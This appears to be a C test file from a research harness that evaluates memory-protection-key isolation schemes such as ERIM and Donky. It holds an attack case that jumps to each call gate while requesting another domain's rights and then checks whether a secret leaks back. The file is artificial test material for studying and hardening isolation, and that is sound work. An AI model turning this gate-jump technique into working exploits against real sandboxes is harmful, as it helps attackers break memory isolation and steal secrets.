/* Tries: to jump to each of them with the rights of another domain asked for
 * From: ERIM (Vahldiek-Oberwagner et al., USENIX Security 2019); Donky (Schrammel et al., USENIX
 *   Security 2020)
 * Observed: The secret in what the call gave back.
 * Needs: machine-code, keys */
#include "attacks/attack.h"
#include "attacks/gate_jump.h"

#ifdef ATTACK_FOREIGN
FOREIGN(run)
{
    uint64_t code = LOCAL(find)(at);
    if (code)
        LOCAL(jump)(code, 0x55555550ull & ~0xcull, at->canary_page + 2048);
    take(at, at->secret_global);
    return 0;
}
#endif

#ifdef ATTACK_HOST
HOST(run)
{
    return LOCAL(jump_each_time)(host, 12);
}
#endif
